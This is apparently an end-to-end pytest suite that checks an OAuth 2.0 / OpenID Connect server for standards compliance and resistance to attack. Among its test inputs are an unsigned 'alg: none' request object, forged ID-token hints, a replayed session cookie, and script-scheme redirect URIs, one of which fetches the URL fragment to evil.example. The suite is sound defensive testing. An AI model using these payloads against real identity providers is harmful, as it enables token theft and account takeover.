"""A standards audit of the OAuth 2.0 / OpenID Connect endpoints, against a real server: what the discovery
document promises (no request objects: OpenID Connect Core §6), one pool's endpoints never answering for
another pool's clients or tokens (by path or by domain), RFC 6750 §3.1's challenge for a request without
credentials, RFC 6749 §4.1.2.1 / §5.2's character set for ``error_description``, and the hosted UI session
really ending at ``/logout`` (the old cookie value replayed signs nobody in)."""

from __future__ import annotations

import base64
import json
import re
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
import requests

from tests.e2e.oauth_support import (
    CALLBACK,
    LOGOUT,
    Browser,
    OAuthPool,
    make_pool,
    make_user,
    pkce_pair,
    query_of,
)
from tests.support import GatehouseServer

# RFC 6749 §4.1.2.1 and §5.2: error_description = 1*( %x20-21 / %x23-5B / %x5D-7E ).
_DESCRIPTION = re.compile(r"[\x20-\x21\x23-\x5b\x5d-\x7e]+")
# {"alg": "none"} . {"redirect_uri": "https://evil.example"} . (no signature)
UNSIGNED_REQUEST_OBJECT = "eyJhbGciOiJub25lIn0.eyJyZWRpcmVjdF91cmkiOiJodHRwczovL2V2aWwuZXhhbXBsZSJ9."
DOMAIN_A = "site-a.auth.us-east-1.amazoncognito.com"
DOMAIN_B = "site-b.auth.us-east-1.amazoncognito.com"


@pytest.fixture(scope="module")
def pool(gatehouse: GatehouseServer, idp: Any) -> OAuthPool:
    created = make_pool(idp, gatehouse.url, "site-a")
    make_user(idp, created.pool_id, "alice")
    idp.create_user_pool_domain(UserPoolId=created.pool_id, Domain="site-a")
    return created


@pytest.fixture(scope="module")
def other(gatehouse: GatehouseServer, idp: Any) -> OAuthPool:
    """A second pool on the same server: another tenant, with a user of its own."""
    created = make_pool(idp, gatehouse.url, "site-b")
    make_user(idp, created.pool_id, "mallory", email="alice@example.com")
    idp.create_user_pool_domain(UserPoolId=created.pool_id, Domain="site-b")
    return created


def _tokens(gatehouse: GatehouseServer, pool: OAuthPool, username: str) -> dict[str, Any]:
    browser = Browser(gatehouse.url)
    back = browser.sign_in(browser.authorize_url(pool.secret_id, scope="openid email profile"), username)
    assert back.status_code == 303, back.text
    code = query_of(back.headers["Location"])["code"]
    data = {"grant_type": "authorization_code", "code": code, "redirect_uri": CALLBACK}
    response = requests.post(f"{gatehouse.url}/oauth2/token", data=data, auth=(pool.secret_id, pool.secret), timeout=10)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def _authorize(gatehouse: GatehouseServer, pool: OAuthPool, **params: str) -> requests.Response:
    _, challenge = pkce_pair()
    query = {
        "client_id": pool.public_id,
        "response_type": "code",
        "redirect_uri": CALLBACK,
        "state": "st-1",
        "code_challenge": challenge,
        "code_challenge_method": "S256",
        **params,
    }
    return requests.get(f"{gatehouse.url}/oauth2/authorize?{urlencode(query)}", allow_redirects=False, timeout=10)


# --- request objects (OpenID Connect Core §6) ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "error"),
    [
        # An unsigned request object asking for another redirect URI and scope: it must not be ignored silently.
        ({"request": UNSIGNED_REQUEST_OBJECT}, "request_not_supported"),
        ({"request_uri": "https://evil.example/request.jwt"}, "request_uri_not_supported"),
        ({"request_uri": "urn:ietf:params:oauth:request_uri:abc", "prompt": "none"}, "request_uri_not_supported"),
    ],
)
def test_request_objects_are_refused_as_discovery_says(
    gatehouse: GatehouseServer, pool: OAuthPool, params: dict[str, str], error: str
) -> None:
    """Discovery says request_parameter_supported and request_uri_parameter_supported are false; Core §6.1
    and §6.2: the OP MUST then answer request_not_supported / request_uri_not_supported (to the verified
    redirect URI, with state and iss, RFC 9207)."""
    discovery = requests.get(f"{pool.issuer}/.well-known/openid-configuration", timeout=10).json()
    assert discovery["request_parameter_supported"] is False and discovery["request_uri_parameter_supported"] is False
    response = _authorize(gatehouse, pool, **params)
    assert response.status_code == 302, response.text
    location = response.headers["Location"]
    assert location.startswith(CALLBACK + "?")
    got = query_of(location)
    assert got["error"] == error and got["state"] == "st-1" and got["iss"] == pool.issuer
    assert "code" not in got


def test_a_request_object_with_an_unregistered_redirect_uri_is_a_page(
    gatehouse: GatehouseServer, pool: OAuthPool
) -> None:
    """The refusal goes to the redirect URI only once that is proven (RFC 6749 §4.1.2.1)."""
    response = _authorize(gatehouse, pool, redirect_uri="https://evil.example/cb", request_uri="https://evil.example/r")
    assert response.status_code == 400 and "Location" not in response.headers


# --- one pool's endpoints, another pool's clients and tokens -------------------------------------------------


def test_userinfo_of_one_pool_refuses_another_pools_access_token(
    gatehouse: GatehouseServer, pool: OAuthPool, other: OAuthPool
) -> None:
    """A relying party of pool A that reads a presented access token's user from A's userInfo endpoint (as its
    discovery document names it, or on A's domain) must not be told about a user of pool B: another tenant
    on the same server could otherwise pass off its own user (here with A's user's email) as one of A's."""
    theirs = _tokens(gatehouse, other, "mallory")["access_token"]
    ours = _tokens(gatehouse, pool, "alice")["access_token"]
    discovery = requests.get(f"{pool.issuer}/.well-known/openid-configuration", timeout=10).json()
    userinfo = discovery["userinfo_endpoint"]
    refused = requests.get(userinfo, headers={"Authorization": f"Bearer {theirs}"}, timeout=10)
    assert refused.status_code == 401, refused.text
    assert refused.json()["error"] == "invalid_token"
    assert 'error="invalid_token"' in refused.headers["WWW-Authenticate"]
    assert "alice@example.com" not in refused.text
    on_domain = requests.get(
        f"{gatehouse.url}/oauth2/userInfo",
        headers={"Authorization": f"Bearer {theirs}", "Host": DOMAIN_A},
        timeout=10,
    )
    assert on_domain.status_code == 401 and on_domain.json()["error"] == "invalid_token"
    # A's own token is answered at both, and B's token still at B's endpoint and on the server's own host.
    for url, host in ((userinfo, None), (f"{gatehouse.url}/oauth2/userInfo", DOMAIN_A)):
        headers = {"Authorization": f"Bearer {ours}", **({"Host": host} if host else {})}
        mine = requests.get(url, headers=headers, timeout=10)
        assert mine.status_code == 200 and mine.json()["username"] == "alice"
    for url in (f"{other.issuer}/oauth2/userInfo", f"{gatehouse.url}/oauth2/userInfo"):
        theirs_there = requests.get(url, headers={"Authorization": f"Bearer {theirs}"}, timeout=10)
        assert theirs_there.status_code == 200 and theirs_there.json()["username"] == "mallory"


def test_token_endpoint_of_one_pool_refuses_another_pools_client(
    gatehouse: GatehouseServer, pool: OAuthPool, other: OAuthPool
) -> None:
    tokens = _tokens(gatehouse, other, "mallory")
    data = {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}
    auth = (other.secret_id, other.secret)
    for url, headers in (
        (f"{pool.issuer}/oauth2/token", {}),
        (f"{gatehouse.url}/oauth2/token", {"Host": DOMAIN_A}),
        (f"{gatehouse.url}/us-east-1_NoSuch123/oauth2/token", {}),
    ):
        refused = requests.post(url, data=data, auth=auth, headers=headers, timeout=10)
        assert refused.status_code == 401, (url, refused.text)
        assert refused.json()["error"] == "invalid_client"
        assert refused.headers["WWW-Authenticate"].startswith("Basic")
        assert refused.headers["Cache-Control"] == "no-store"
    # The refresh token was not touched: its own pool's endpoint (path or domain) still honours it.
    for url, headers in ((f"{other.issuer}/oauth2/token", {}), (f"{gatehouse.url}/oauth2/token", {"Host": DOMAIN_B})):
        fresh = requests.post(url, data=data, auth=auth, headers=headers, timeout=10)
        assert fresh.status_code == 200, fresh.text
        data["refresh_token"] = fresh.json().get("refresh_token", data["refresh_token"])


def test_revocation_endpoint_of_one_pool_refuses_another_pools_client(
    gatehouse: GatehouseServer, pool: OAuthPool, other: OAuthPool
) -> None:
    tokens = _tokens(gatehouse, other, "mallory")
    auth = (other.secret_id, other.secret)
    for url, headers in ((f"{pool.issuer}/oauth2/revoke", {}), (f"{gatehouse.url}/oauth2/revoke", {"Host": DOMAIN_A})):
        refused = requests.post(url, data={"token": tokens["refresh_token"]}, auth=auth, headers=headers, timeout=10)
        assert refused.status_code == 401 and refused.json()["error"] == "invalid_client", refused.text
    # Nothing was revoked.
    data = {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}
    still = requests.post(f"{other.issuer}/oauth2/token", data=data, auth=auth, timeout=10)
    assert still.status_code == 200, still.text
    info = requests.get(
        f"{other.issuer}/oauth2/userInfo", headers={"Authorization": f"Bearer {tokens['access_token']}"}, timeout=10
    )
    assert info.status_code == 200
    # At its own pool's endpoint it revokes.
    revoke = f"{other.issuer}/oauth2/revoke"
    done = requests.post(revoke, data={"token": tokens["refresh_token"]}, auth=auth, timeout=10)
    assert done.status_code == 200
    gone = requests.post(f"{other.issuer}/oauth2/token", data=data, auth=auth, timeout=10)
    assert gone.status_code == 400 and gone.json()["error"] == "invalid_grant"


# --- RFC 6750 §3 ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["nothing", "query", "form", "basic"])
def test_userinfo_without_bearer_credentials_is_challenged_without_an_error_code(
    gatehouse: GatehouseServer, pool: OAuthPool, how: str
) -> None:
    """RFC 6750 §3.1: a request without authentication information (or by a method the server does not
    support: Cognito takes the access token in the Authorization header only) gets 401 and a Bearer challenge
    with no error code."""
    access_token = _tokens(gatehouse, pool, "alice")["access_token"] if how != "nothing" else ""
    url = f"{pool.issuer}/oauth2/userInfo"
    if how == "query":
        response = requests.get(url, params={"access_token": access_token}, timeout=10)
    elif how == "form":
        response = requests.post(url, data={"access_token": access_token}, timeout=10)
    elif how == "basic":
        response = requests.get(url, headers={"Authorization": f"Basic {access_token}"}, timeout=10)
    else:
        response = requests.get(url, timeout=10)
    assert response.status_code == 401
    challenge = response.headers["WWW-Authenticate"]
    assert challenge.startswith("Bearer") and "error=" not in challenge
    assert response.headers["Cache-Control"] == "no-store"
    assert "sub" not in response.json()


# --- error_description (RFC 6749 §4.1.2.1, §5.2) -------------------------------------------------------------


def test_error_descriptions_keep_to_the_rfc_character_set(gatehouse: GatehouseServer, pool: OAuthPool) -> None:
    """A description that echoes what the client sent must still be of the characters RFC 6749 allows (no
    quote, backslash, control or non-ASCII character), at the authorization and the token endpoint."""
    hostile = 'cöde"\\\x7f\u202e'
    response = _authorize(gatehouse, pool, response_type=hostile)
    assert response.status_code == 302
    got = query_of(response.headers["Location"])
    assert got["error"] == "unsupported_response_type"
    assert _DESCRIPTION.fullmatch(got["error_description"]), got["error_description"]
    token = requests.post(
        f"{gatehouse.url}/oauth2/token",
        data={"grant_type": hostile},
        auth=(pool.secret_id, pool.secret),
        timeout=10,
    )
    assert token.status_code == 400 and token.json()["error"] == "unsupported_grant_type"
    assert _DESCRIPTION.fullmatch(token.json()["error_description"]), token.json()["error_description"]


# --- /logout ends the session on the server ------------------------------------------------------------------


def test_a_logged_out_session_cookie_replayed_signs_nobody_in(gatehouse: GatehouseServer, pool: OAuthPool) -> None:
    """The cookie is cleared in the browser, and the session behind it is gone: the old value, kept by an
    attacker (or a second tab), no longer signs in silently, for any client of the pool."""
    browser = Browser(gatehouse.url)
    back = browser.sign_in(browser.authorize_url(pool.secret_id), "alice")
    assert back.status_code == 303
    name = f"gatehouse_sso_{pool.pool_id}"
    stolen = browser.http.cookies.get(name)
    assert stolen
    silent = browser.get(browser.authorize_url(pool.secret_id, prompt="none"))
    assert "code" in query_of(silent.headers["Location"])
    out = browser.get(f"/logout?{urlencode({'client_id': pool.secret_id, 'logout_uri': LOGOUT})}")
    assert out.status_code == 302 and out.headers["Location"] == LOGOUT
    cleared = out.headers["Set-Cookie"]
    assert cleared.startswith(f"{name}=") and ("Max-Age=0" in cleared or "1970" in cleared)
    replay = requests.Session()
    replay.cookies.set(name, stolen)
    for client_id in (pool.secret_id, pool.public_id):
        _, challenge = pkce_pair()
        query = {
            "client_id": client_id,
            "response_type": "code",
            "redirect_uri": CALLBACK,
            "prompt": "none",
            "state": "r",
            "code_challenge": challenge,
            "code_challenge_method": "S256",
        }
        answer = replay.get(f"{gatehouse.url}/oauth2/authorize?{urlencode(query)}", allow_redirects=False, timeout=10)
        assert answer.status_code == 302
        got = query_of(answer.headers["Location"])
        assert got["error"] == "login_required" and "code" not in got


def _fragment(url: str) -> dict[str, str]:
    return {k: v[0] for k, v in parse_qs(urlsplit(url).fragment).items()}


# --- response_mode (discovery: response_modes_supported = query, fragment) ------------------------------------


def test_response_mode_fragment_is_honoured_for_the_code(gatehouse: GatehouseServer, pool: OAuthPool) -> None:
    """Discovery promises the fragment mode: a client asking for it gets the code (and an error) there, never
    in the query, at the sign-in page's answer and at a silent single sign-on answer alike."""
    browser = Browser(gatehouse.url)
    back = browser.sign_in(browser.authorize_url(pool.secret_id, response_mode="fragment", state="f-1"), "alice")
    assert back.status_code == 303
    location = back.headers["Location"]
    assert location.startswith(CALLBACK + "#") and not urlsplit(location).query
    got = _fragment(location)
    assert got["state"] == "f-1" and got["iss"] == pool.issuer
    data = {"grant_type": "authorization_code", "code": got["code"], "redirect_uri": CALLBACK}
    redeemed = requests.post(f"{gatehouse.url}/oauth2/token", data=data, auth=(pool.secret_id, pool.secret), timeout=10)
    assert redeemed.status_code == 200 and "id_token" in redeemed.json()
    silent = browser.get(browser.authorize_url(pool.secret_id, response_mode="fragment", prompt="none"))
    assert silent.status_code == 302 and "code" in _fragment(silent.headers["Location"])
    assert not urlsplit(silent.headers["Location"]).query
    refused = _authorize(gatehouse, pool, response_mode="fragment", scope="phone")
    assert refused.status_code == 302 and not urlsplit(refused.headers["Location"]).query
    assert _fragment(refused.headers["Location"])["error"] == "invalid_scope"
    # The default stays the query.
    plain = browser.get(browser.authorize_url(pool.secret_id, prompt="none", response_mode="query"))
    assert "code" in query_of(plain.headers["Location"]) and not urlsplit(plain.headers["Location"]).fragment


def test_tokens_never_go_in_the_query(gatehouse: GatehouseServer, idp: Any, pool: OAuthPool) -> None:
    """Multiple Response Type Encoding Practices §2.1: response_mode=query is refused for the implicit flow,
    and the refusal itself goes in the fragment."""
    implicit = idp.create_user_pool_client(
        UserPoolId=pool.pool_id,
        ClientName="implicit",
        AllowedOAuthFlowsUserPoolClient=True,
        AllowedOAuthFlows=["implicit"],
        AllowedOAuthScopes=["openid"],
        CallbackURLs=[CALLBACK],
    )["UserPoolClient"]["ClientId"]
    browser = Browser(gatehouse.url)
    asked = browser.get(browser.authorize_url(implicit, response_type="token", response_mode="query", state="q"))
    assert asked.status_code == 302
    location = asked.headers["Location"]
    assert location.startswith(CALLBACK + "#") and not urlsplit(location).query
    got = _fragment(location)
    assert got["error"] == "invalid_request" and got["state"] == "q" and "access_token" not in got
    # Signed in, the implicit flow with the default (fragment) mode still works.
    back = browser.sign_in(browser.authorize_url(implicit, response_type="token"), "alice")
    assert back.status_code == 303 and "access_token" in _fragment(back.headers["Location"])
    assert not urlsplit(back.headers["Location"]).query


# --- redirect URIs a browser would run rather than follow ----------------------------------------------------


@pytest.mark.parametrize(
    ("member", "uri"),
    [
        ("CallbackURLs", "javascript:alert(document.domain)//"),
        ("CallbackURLs", "JavaScript:fetch('//evil.example/'+location.hash)"),
        ("CallbackURLs", "data:text/html,<script>alert(1)</script>"),
        ("LogoutURLs", "javascript:alert(1)"),
        ("LogoutURLs", "vbscript:msgbox(1)"),
        ("DefaultRedirectURI", "file:///etc/passwd"),
    ],
)
def test_script_scheme_redirect_uris_are_refused_and_nothing_changes(
    idp: Any, pool: OAuthPool, member: str, uri: str
) -> None:
    """A callback or sign-out URL the browser would execute or read itself is refused at registration (the
    redirect would carry the code or the user into a script of the attacker's choosing), on create and on
    update, and the client is left as it was."""
    settings: dict[str, Any] = {
        "AllowedOAuthFlowsUserPoolClient": True,
        "AllowedOAuthFlows": ["code"],
        "AllowedOAuthScopes": ["openid"],
        "CallbackURLs": [CALLBACK],
    }
    bad = {**settings, member: uri if member == "DefaultRedirectURI" else [uri]}
    if member == "DefaultRedirectURI":
        bad["CallbackURLs"] = [CALLBACK, uri]
    with pytest.raises(idp.exceptions.InvalidParameterException):
        idp.create_user_pool_client(UserPoolId=pool.pool_id, ClientName="script-scheme", **bad)
    names = [c["ClientName"] for c in idp.list_user_pool_clients(UserPoolId=pool.pool_id)["UserPoolClients"]]
    assert "script-scheme" not in names
    with pytest.raises(idp.exceptions.InvalidParameterException):
        idp.update_user_pool_client(UserPoolId=pool.pool_id, ClientId=pool.public_id, **bad)
    described = idp.describe_user_pool_client(UserPoolId=pool.pool_id, ClientId=pool.public_id)["UserPoolClient"]
    assert described["CallbackURLs"] == [CALLBACK, "http://localhost:8080/cb"]
    assert described["LogoutURLs"] == [LOGOUT] and "DefaultRedirectURI" not in described


# --- discovery's end_session_endpoint speaks OpenID Connect RP-Initiated Logout 1.0 --------------------------


def _signed_in_browser(gatehouse: GatehouseServer, pool: OAuthPool) -> tuple[Browser, str]:
    """A browser signed in to the hosted UI, and an ID token issued to the confidential client."""
    browser = Browser(gatehouse.url)
    back = browser.sign_in(browser.authorize_url(pool.secret_id), "alice")
    code = query_of(back.headers["Location"])["code"]
    data = {"grant_type": "authorization_code", "code": code, "redirect_uri": CALLBACK}
    tokens = requests.post(f"{gatehouse.url}/oauth2/token", data=data, auth=(pool.secret_id, pool.secret), timeout=10)
    return browser, str(tokens.json()["id_token"])


def _silent(browser: Browser, pool: OAuthPool) -> dict[str, str]:
    return query_of(browser.get(browser.authorize_url(pool.secret_id, prompt="none")).headers["Location"])


@pytest.mark.parametrize("names", ["id_token_hint", "client_id", "both"])
def test_end_session_endpoint_takes_rp_initiated_logout_parameters(
    gatehouse: GatehouseServer, pool: OAuthPool, names: str
) -> None:
    """An RP that signs out through discovery's end_session_endpoint sends post_logout_redirect_uri (one of
    the client's LogoutURLs), id_token_hint and/or client_id, and state (RP-Initiated Logout 1.0 §2-§3):
    the session ends and the browser comes back with its state. Without an id_token_hint naming the signed-in
    user, the user is asked first (§2: "the OP MUST ask the End-User")."""
    browser, id_token = _signed_in_browser(gatehouse, pool)
    discovery = requests.get(f"{pool.issuer}/.well-known/openid-configuration", timeout=10).json()
    query = {"post_logout_redirect_uri": LOGOUT, "state": "bye-1"}
    if names in ("id_token_hint", "both"):
        query["id_token_hint"] = id_token
    if names in ("client_id", "both"):
        query["client_id"] = pool.secret_id
    out = browser.get(f"{discovery['end_session_endpoint']}?{urlencode(query)}")
    if names == "client_id":
        assert out.status_code == 200 and "Sign out?" in out.text, out.text
        out = browser.submit(out, {"sign_out": "yes"})
    assert out.status_code == 302, out.text
    assert out.headers["Location"] == f"{LOGOUT}?state=bye-1"
    assert out.headers["Set-Cookie"].startswith(f"gatehouse_sso_{pool.pool_id}=")
    assert _silent(browser, pool)["error"] == "login_required"


def test_end_session_endpoint_refuses_what_it_cannot_trust(
    gatehouse: GatehouseServer, idp: Any, pool: OAuthPool, other: OAuthPool
) -> None:
    """Never a redirect to an unregistered URI (RP-Initiated Logout §3: exact match), nor one picked by a
    forged or foreign ID token; a refused request leaves the session alone."""
    browser, id_token = _signed_in_browser(gatehouse, pool)
    other_client = idp.create_user_pool_client(
        UserPoolId=pool.pool_id,
        ClientName="other-logout",
        AllowedOAuthFlowsUserPoolClient=True,
        AllowedOAuthFlows=["code"],
        AllowedOAuthScopes=["openid"],
        CallbackURLs=[CALLBACK],
        LogoutURLs=["https://other.example/bye"],
    )["UserPoolClient"]["ClientId"]
    header, payload, _ = id_token.split(".")
    refused = [
        {"post_logout_redirect_uri": "https://evil.example/", "id_token_hint": id_token},
        {"post_logout_redirect_uri": "https://evil.example/", "client_id": pool.secret_id},
        {"post_logout_redirect_uri": LOGOUT + "/", "client_id": pool.secret_id},
        # The hint names one client, client_id another (whose sign-out URL is the target).
        {"post_logout_redirect_uri": "https://other.example/bye", "client_id": other_client, "id_token_hint": id_token},
        # A forged hint (signature of another token) is all that names the client.
        {"post_logout_redirect_uri": LOGOUT, "id_token_hint": f"{header}.{payload}.AAAA"},
        {"post_logout_redirect_uri": LOGOUT, "id_token_hint": "garbage"},
        # A forged or garbage hint beside a client_id: not ignored (§2: the OP validates it issued the hint).
        {
            "post_logout_redirect_uri": "https://other.example/bye",
            "client_id": other_client,
            "id_token_hint": f"{header}.{payload}.AAAA",
        },
        {"post_logout_redirect_uri": LOGOUT, "client_id": pool.secret_id, "id_token_hint": "garbage"},
        {"post_logout_redirect_uri": LOGOUT},
        # Another pool's path.
        {"post_logout_redirect_uri": LOGOUT, "client_id": pool.secret_id, "_path": f"/{other.pool_id}"},
    ]
    for query in refused:
        path = query.pop("_path", "")
        answer = browser.get(f"{path}/logout?{urlencode(query)}")
        assert answer.status_code == 400, (query, answer.text)
        assert "Location" not in answer.headers and "text/html" in answer.headers["Content-Type"]
        assert "Set-Cookie" not in answer.headers or "gatehouse_sso_" not in answer.headers["Set-Cookie"]
    repeated = browser.get(
        "/logout?"
        + urlencode([("post_logout_redirect_uri", LOGOUT), ("post_logout_redirect_uri", "https://evil.example/")])
        + f"&client_id={pool.secret_id}"
    )
    assert repeated.status_code == 400 and "Location" not in repeated.headers
    assert "code" in _silent(browser, pool)


# --- the hosted pages' forms (double-submit CSRF tokens) ------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/login", "/login/challenge", "/signup", "/confirm", "/forgotPassword", "/confirmForgotPassword"]
)
def test_every_hosted_form_refuses_a_missing_or_foreign_csrf_token(
    gatehouse: GatehouseServer, idp: Any, pool: OAuthPool, path: str
) -> None:
    """A cross-site form (no token, or the attacker's own token, which does not match the victim's cookie)
    is refused with a 403 page, and does nothing: no user signed up, no sign-in, the request still usable."""
    victim = Browser(gatehouse.url)
    page = victim.follow(victim.get(victim.authorize_url(pool.secret_id)))
    assert page.status_code == 200
    rid = query_of(page.url)["rid"]
    attacker = Browser(gatehouse.url)
    attacker.follow(attacker.get(attacker.authorize_url(pool.secret_id)))
    foreign = attacker.http.cookies.get("gatehouse_csrf")
    assert foreign and foreign != victim.http.cookies.get("gatehouse_csrf")
    username = f"csrf-{path.strip('/').replace('/', '-')}"
    fields = {"username": username, "password": "Correct-Horse-9", "code": "123456", "email": f"{username}@x.example"}
    for token in (None, foreign, ""):
        data = dict(fields) if token is None else {**fields, "_csrf": token}
        refused = victim.post(f"{path}?rid={rid}", data)
        assert refused.status_code == 403, refused.text
        assert "text/html" in refused.headers["Content-Type"] and "Location" not in refused.headers
        assert refused.headers["X-Frame-Options"] == "DENY"
    # The victim's own token without the victim's cookie (a cookie-less replay of a leaked page) fails too.
    bare = requests.post(
        f"{gatehouse.url}{path}?rid={rid}",
        data={**fields, "_csrf": victim.http.cookies.get("gatehouse_csrf") or ""},
        allow_redirects=False,
        timeout=10,
    )
    assert bare.status_code == 403
    listed = idp.list_users(UserPoolId=pool.pool_id, Filter=f'username = "{username}"')["Users"]
    assert listed == []
    # The sign-in request was not used up: the victim signs in with it.
    back = victim.submit(page, {"username": "alice", "password": "Correct-Horse-9"})
    assert back.status_code == 303 and "code" in query_of(back.headers["Location"])


# --- a session belongs to a user, not to a username -------------------------------------------------------------


def test_a_session_does_not_sign_in_a_new_user_with_the_old_username(
    gatehouse: GatehouseServer, idp: Any, pool: OAuthPool
) -> None:
    """A user signed in to the hosted UI is deleted and someone else signs up with the same username: the old
    browser session (or its cookie, kept by whoever used it) must not sign the newcomer in. The code it
    would have issued would carry the newcomer's tokens."""
    make_user(idp, pool.pool_id, "reused")
    browser = Browser(gatehouse.url)
    assert browser.sign_in(browser.authorize_url(pool.secret_id), "reused").status_code == 303
    assert "code" in _silent(browser, pool)
    idp.admin_delete_user(UserPoolId=pool.pool_id, Username="reused")
    make_user(idp, pool.pool_id, "reused", email="newcomer@example.com")
    silent = _silent(browser, pool)
    assert silent.get("error") == "login_required" and "code" not in silent
    # Shown the sign-in page instead, where the newcomer signs in for themself.
    page = browser.follow(browser.get(browser.authorize_url(pool.secret_id)))
    assert page.status_code == 200 and "password" in page.text


# --- parameters sent without a value (RFC 6749 §3.1, §3.2) -----------------------------------------------------


def test_parameters_without_a_value_count_as_omitted(gatehouse: GatehouseServer, pool: OAuthPool) -> None:
    """RFC 6749 §3.1 and §3.2: "Parameters sent without a value MUST be treated as if they were omitted from
    the request." An empty state, nonce, scope or max_age at the authorization endpoint, and an empty
    code_verifier (a client library that always sends the field) or client_secret beside Basic at the token
    endpoint, change nothing; above all an empty code_verifier must not use up a good code."""
    browser = Browser(gatehouse.url)
    url = browser.authorize_url(pool.secret_id, state="", nonce="", scope="", max_age="", code_challenge="")
    back = browser.sign_in(url, "alice")
    assert back.status_code == 303, back.text
    got = query_of(back.headers["Location"])
    assert "state" not in got and "error" not in got
    data = {
        "grant_type": "authorization_code",
        "code": got["code"],
        "redirect_uri": CALLBACK,
        "code_verifier": "",
        "client_secret": "",
        "scope": "",
    }
    redeemed = requests.post(f"{gatehouse.url}/oauth2/token", data=data, auth=(pool.secret_id, pool.secret), timeout=10)
    assert redeemed.status_code == 200, redeemed.text
    body = redeemed.json()
    # The default scopes (all the client's standard ones), and no empty nonce in the ID token.
    assert "id_token" in body
    payload = body["id_token"].split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    assert "nonce" not in claims and claims["email"] == "alice@example.com"
    # A refresh with an empty scope keeps the grant's scopes rather than failing with invalid_scope.
    refresh = {"grant_type": "refresh_token", "refresh_token": body["refresh_token"], "scope": ""}
    fresh = requests.post(f"{gatehouse.url}/oauth2/token", data=refresh, auth=(pool.secret_id, pool.secret), timeout=10)
    assert fresh.status_code == 200 and "id_token" in fresh.json()
    # An empty value is still not a value: a missing grant_type stays missing.
    empty = requests.post(
        f"{gatehouse.url}/oauth2/token", data={"grant_type": ""}, auth=(pool.secret_id, pool.secret), timeout=10
    )
    assert empty.status_code == 400 and empty.json()["error"] == "invalid_request"


# --- revocation (RFC 7009) ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("hint", ["access_token", "id_token", "urn:example:unknown"])
def test_a_wrong_or_unknown_token_type_hint_does_not_stop_revocation(
    gatehouse: GatehouseServer, pool: OAuthPool, hint: str
) -> None:
    """RFC 7009 §2.1: a hint the server cannot use makes it search the other token types; the refresh token
    is revoked (200), not left alive behind an unsupported_token_type error."""
    tokens = _tokens(gatehouse, pool, "alice")
    auth = (pool.secret_id, pool.secret)
    data = {"token": tokens["refresh_token"], "token_type_hint": hint}
    revoked = requests.post(f"{gatehouse.url}/oauth2/revoke", data=data, auth=auth, timeout=10)
    assert revoked.status_code == 200, revoked.text
    refresh = {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}
    gone = requests.post(f"{gatehouse.url}/oauth2/token", data=refresh, auth=auth, timeout=10)
    assert gone.status_code == 400 and gone.json()["error"] == "invalid_grant"


# --- a session signs in only to clients that admit the way it was signed in -----------------------------------


def test_a_session_does_not_open_a_client_that_does_not_support_its_provider(
    gatehouse: GatehouseServer, idp: Any, pool: OAuthPool
) -> None:
    """A client whose SupportedIdentityProviders names only an identity provider admits no password sign-in:
    a hosted-UI session from the pool's own sign-in page must not get a code for it silently (prompt=none:
    login_required), nor without prompt (the sign-in page instead, which offers that provider only)."""
    idp.create_identity_provider(
        UserPoolId=pool.pool_id,
        ProviderName="Google",
        ProviderType="Google",
        ProviderDetails={"client_id": "google-client", "client_secret": "google-secret", "authorize_scopes": "email"},
        AttributeMapping={"email": "email"},
    )
    google_only = idp.create_user_pool_client(
        UserPoolId=pool.pool_id,
        ClientName="google-only",
        GenerateSecret=True,
        AllowedOAuthFlowsUserPoolClient=True,
        AllowedOAuthFlows=["code"],
        AllowedOAuthScopes=["openid"],
        CallbackURLs=[CALLBACK],
        SupportedIdentityProviders=["Google"],
    )["UserPoolClient"]["ClientId"]
    browser = Browser(gatehouse.url)
    assert browser.sign_in(browser.authorize_url(pool.secret_id), "alice").status_code == 303
    silent = query_of(browser.get(browser.authorize_url(google_only, prompt="none", state="g")).headers["Location"])
    assert silent.get("error") == "login_required" and "code" not in silent and silent["state"] == "g"
    asked = browser.get(browser.authorize_url(google_only))
    assert asked.status_code == 302 and "/login?rid=" in asked.headers["Location"]
    page = browser.follow(asked)
    assert page.status_code == 200 and "Google" in page.text and 'name="password"' not in page.text
    # The session itself is untouched: a client that admits the pool's own sign-in still gets a code silently.
    assert "code" in _silent(browser, pool)


def test_prompt_none_with_an_identity_provider_shows_no_sign_in_page(
    gatehouse: GatehouseServer, idp: Any, pool: OAuthPool
) -> None:
    """OpenID Connect Core §3.1.2.1: prompt=none must not display any sign-in UI, the upstream provider's
    included. With identity_provider and no session from that provider, the answer is login_required at once
    (not a redirect to the provider, which a silent renewal in a hidden frame would hang on)."""
    providers = {p["ProviderName"] for p in idp.list_identity_providers(UserPoolId=pool.pool_id)["Providers"]}
    if "Google" not in providers:
        idp.create_identity_provider(
            UserPoolId=pool.pool_id,
            ProviderName="Google",
            ProviderType="Google",
            ProviderDetails={
                "client_id": "google-client",
                "client_secret": "google-secret",
                "authorize_scopes": "email",
            },
            AttributeMapping={"email": "email"},
        )
    both = idp.create_user_pool_client(
        UserPoolId=pool.pool_id,
        ClientName="both",
        GenerateSecret=True,
        AllowedOAuthFlowsUserPoolClient=True,
        AllowedOAuthFlows=["code"],
        AllowedOAuthScopes=["openid"],
        CallbackURLs=[CALLBACK],
        SupportedIdentityProviders=["COGNITO", "Google"],
    )["UserPoolClient"]["ClientId"]
    anonymous = Browser(gatehouse.url)
    answer = anonymous.get(anonymous.authorize_url(both, prompt="none", identity_provider="Google", state="s"))
    assert answer.status_code == 302
    got = query_of(answer.headers["Location"])
    assert answer.headers["Location"].startswith(CALLBACK) and got["error"] == "login_required" and got["state"] == "s"
    # Signed in with a password: that session is not one from Google either.
    browser = Browser(gatehouse.url)
    assert browser.sign_in(browser.authorize_url(both), "alice").status_code == 303
    again = query_of(
        browser.get(browser.authorize_url(both, prompt="none", identity_provider="Google")).headers["Location"]
    )
    assert again.get("error") == "login_required" and "code" not in again
    # Without prompt=none the provider's sign-in is started as before.
    started = browser.get(browser.authorize_url(both, identity_provider="Google"))
    assert started.status_code in (302, 303) and not started.headers["Location"].startswith(CALLBACK)
